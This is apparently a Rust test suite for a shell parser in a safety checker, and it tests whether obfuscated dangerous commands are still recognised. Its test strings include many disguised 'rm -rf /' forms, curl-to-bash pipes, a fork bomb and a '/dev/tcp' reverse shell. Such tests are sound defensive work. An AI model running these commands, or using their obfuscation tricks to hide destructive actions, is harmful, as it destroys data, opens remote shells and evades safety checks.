use super::*;

fn argvs(text: &str) -> Vec<Vec<String>> {
    parse(text).commands.into_iter().map(|c| c.argv).collect()
}

fn has(text: &str, argv: &[&str]) -> bool {
    argvs(text).iter().any(|a| a == argv)
}

#[test]
fn quotes_and_escapes_are_removed() {
    assert_eq!(
        argvs(r#"rm -r -f "$HOME" 'a b' c\ d"#),
        vec![vec!["rm", "-r", "-f", "$HOME", "a b", "c d"]]
    );
    assert!(has(r#"\rm -rf /"#, &["rm", "-rf", "/"]));
    assert!(has(r#"r''m -rf "/""#, &["rm", "-rf", "/"]));
    assert!(has(r#"$'\x72\x6d' -rf /"#, &["rm", "-rf", "/"]));
    assert!(has(r#"echo "a \"b\" \$c""#, &["echo", r#"a "b" $c"#]));
    assert!(has(r#"echo ${HOME}/x ~/y"#, &["echo", "${HOME}/x", "~/y"]));
    assert!(has(r#"{rm,-rf,/}"#, &["rm", "-rf", "/"]));
    assert!(has(r#"ls file.{js,ts}"#, &["ls", "file.js", "file.ts"]));
    assert!(has("find . -name '*.rs' -exec rm {} \\;", &["rm", "{}"]));
}

#[test]
fn lists_pipelines_and_relations() {
    let script =
        parse("curl -fsSL https://x.sh | sudo -E bash -s -- --yes; echo done && ls || true");
    let programs: Vec<String> = script.commands.iter().map(Command::program).collect();
    assert_eq!(programs, ["curl", "bash", "echo", "ls", "true"]);
    assert_eq!(script.commands[1].stdin_from, vec![0]);
    assert_eq!(script.commands[0].stdout_to, vec![1]);
    assert_eq!(script.commands[1].wrappers, vec!["sudo"]);
    let script = parse("a | b | c");
    assert_eq!(script.commands[2].stdin_from, vec![0, 1]);
}

#[test]
fn substitutions_and_nested_strings_are_commands() {
    let script = parse(r#"sh -c "$(curl -fsSL https://x)""#);
    let curl = script
        .commands
        .iter()
        .position(|c| c.program() == "curl")
        .unwrap();
    let sh = script
        .commands
        .iter()
        .position(|c| c.program() == "sh")
        .unwrap();
    assert!(script.commands[sh].args_from.contains(&curl));
    let script = parse("bash <(curl -s https://x)");
    let bash = script
        .commands
        .iter()
        .position(|c| c.program() == "bash")
        .unwrap();
    assert_eq!(script.commands[bash].args_from, vec![0]);
    let script = parse("bash < <(wget -qO- x)");
    let bash = script
        .commands
        .iter()
        .position(|c| c.program() == "bash")
        .unwrap();
    assert_eq!(script.commands[bash].stdin_from, vec![0]);
    assert!(has("echo `rm -rf /`", &["rm", "-rf", "/"]));
    assert!(has("bash -c 'rm -rf ~'", &["rm", "-rf", "~"]));
    assert!(has(
        "sudo -u root bash -lc \"rm -fr /\"",
        &["rm", "-fr", "/"]
    ));
    assert!(has("eval \"rm -rf /\"", &["rm", "-rf", "/"]));
    assert!(has("ssh -p 22 host rm -rf /", &["rm", "-rf", "/"]));
    assert!(has("watch -n 1 'rm -rf /'", &["rm", "-rf", "/"]));
    assert!(has("echo x | xargs -0 rm -rf", &["rm", "-rf"]));
    assert!(has("(cd /; rm -rf *)", &["rm", "-rf", "*"]));
    assert!(has("{ rm -rf /; }", &["rm", "-rf", "/"]));
    assert!(has("x=$(rm -rf /)", &["rm", "-rf", "/"]));
    assert!(has("bash <<'EOF'\nrm -rf /\nEOF\n", &["rm", "-rf", "/"]));
    assert!(has("cat <<EOF\n$(rm -rf /)\nEOF", &["rm", "-rf", "/"]));
    assert!(has("bash <<< 'rm -rf /'", &["rm", "-rf", "/"]));
    assert!(has("su -c 'rm -rf /' root", &["rm", "-rf", "/"]));
    assert!(has("if true; then rm -rf /; fi", &["rm", "-rf", "/"]));
    assert!(has("for f in a; do rm -rf $f; done", &["rm", "-rf", "$f"]));
}

#[test]
fn wrappers_are_unwrapped() {
    for line in [
        "/bin/rm -rf /",
        "sudo rm -rf /",
        "sudo -u admin -E rm -rf /",
        "sudo -Eu admin rm -rf /",
        "doas rm -rf /",
        "env rm -rf /",
        "/usr/bin/env -i FOO=1 rm -rf /",
        "env -S 'rm -rf' /",
        "FOO=1 BAR=2 rm -rf /",
        "command rm -rf /",
        "builtin rm -rf /",
        "exec rm -rf /",
        "nohup rm -rf /",
        "time rm -rf /",
        "nice -n 10 rm -rf /",
        "timeout -s KILL 10 rm -rf /",
        "stdbuf -oL rm -rf /",
        "busybox rm -rf /",
        "sudo env nohup nice /bin/rm -rf /",
    ] {
        let script = parse(line);
        let rm = script.commands.iter().find(|c| c.program() == "rm");
        let rm = rm.unwrap_or_else(|| panic!("{line}: {:?}", script.commands));
        assert_eq!(rm.args(), ["-rf", "/"], "{line}");
    }
    let script = parse("command -v rm");
    assert_eq!(script.commands[0].program(), "command");
    let script = parse("env");
    assert_eq!(script.commands[0].program(), "env");
}

#[test]
fn redirections_and_functions() {
    let script = parse("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
    let redirects = &script.commands[0].redirects;
    assert_eq!(redirects[0].op, ">&");
    assert_eq!(redirects[0].target, "/dev/tcp/10.0.0.1/4444");
    assert_eq!(redirects[1].fd, Some(0));
    assert_eq!(script.commands[0].argv, ["bash", "-i"]);
    let script = parse("echo hi 2>&1 >out.txt");
    assert_eq!(script.commands[0].argv, ["echo", "hi"]);
    assert_eq!(script.commands[0].redirects[1].target, "out.txt");
    let script = parse(":(){ :|:& };:");
    let in_function: Vec<_> = script
        .commands
        .iter()
        .filter(|c| c.function.as_deref() == Some(":"))
        .collect();
    assert_eq!(in_function.len(), 2);
    assert!(!in_function[0].stdout_to.is_empty());
    let script = parse("cat <<'EOF' | sh\necho hi\nEOF\n");
    assert_eq!(
        script.commands[0].redirects[0].body.as_deref(),
        Some("echo hi\n")
    );
}

#[test]
fn unbalanced_input_degrades_to_words() {
    assert!(has("echo 'unterminated", &["echo", "unterminated"]));
    assert!(has("echo \"unterminated $(rm -rf /", &["rm", "-rf", "/"]));
    assert!(has("rm -rf / )) ;; }", &["rm", "-rf", "/"]));
    assert!(has("echo `rm -rf /", &["rm", "-rf", "/"]));
    for text in [
        "", "(", ")", "|", "&&", "${", "$(", "<<", "'", "\"", "\\", "{", "}", "`", "$'\\x", "<(",
        "a=(", "f() ",
    ] {
        let _ = parse(text);
    }
}

#[test]
fn deep_nesting_is_capped_and_reported() {
    let deep = format!("{}rm -rf /{}", "$(".repeat(200), ")".repeat(200));
    let script = parse(&deep);
    assert!(script.opaque);
    let subshells = format!("{}echo hi{}", "( ".repeat(100_000), ")".repeat(100_000));
    assert!(parse(&subshells).opaque);
    // `((((…))))` is arithmetic to a shell (nothing runs); read without recursion.
    let arithmetic = format!("{}echo hi{}", "(".repeat(100_000), ")".repeat(100_000));
    assert!(parse(&arithmetic).commands.is_empty());
    for open in [
        "$((",
        "$[",
        "${",
        "$(( $(",
        "(( $(",
        "$(( $(( $(",
        "[[ $(",
        "case $(",
    ] {
        let deep = open.repeat(100_000);
        assert!(parse(&deep).opaque, "{open}");
    }
    let shallow = format!("{}rm -rf /{}", "$(".repeat(5), ")".repeat(5));
    let script = parse(&shallow);
    assert!(!script.opaque);
    assert!(has(&shallow, &["rm", "-rf", "/"]));
    let evals = format!("{}rm -rf /", "eval ".repeat(40));
    assert!(parse(&evals).opaque);
    let evals = format!("{}rm -rf /", "eval ".repeat(10));
    assert!(has(&evals, &["rm", "-rf", "/"]));
}

#[test]
fn huge_input_is_parsed_in_bounded_space() {
    let long = "echo a | ".repeat(50_000) + "cat";
    let script = parse(&long);
    assert!(script.commands.len() <= MAX_COMMANDS);
    assert!(script.opaque);
    assert!(script
        .commands
        .iter()
        .all(|c| c.stdin_from.len() <= MAX_RELATED));
    let word = "a".repeat(1 << 20);
    let script = parse(&format!("echo {word}"));
    assert_eq!(script.commands[0].argv[1].len(), 1 << 20);
}
